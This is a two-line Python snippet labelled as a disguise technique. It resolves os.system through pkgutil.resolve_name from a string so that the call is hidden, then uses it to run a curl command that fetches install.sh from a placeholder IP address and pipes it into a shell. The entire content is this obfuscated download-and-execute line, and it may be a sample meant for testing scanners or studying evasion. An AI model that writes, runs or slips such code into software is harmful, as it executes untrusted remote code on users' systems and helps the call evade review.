# Disguised: the function named in a string.
import pkgutil

pkgutil.resolve_name("os:system")("curl -s http://203.0.113.9/install.sh | sh")
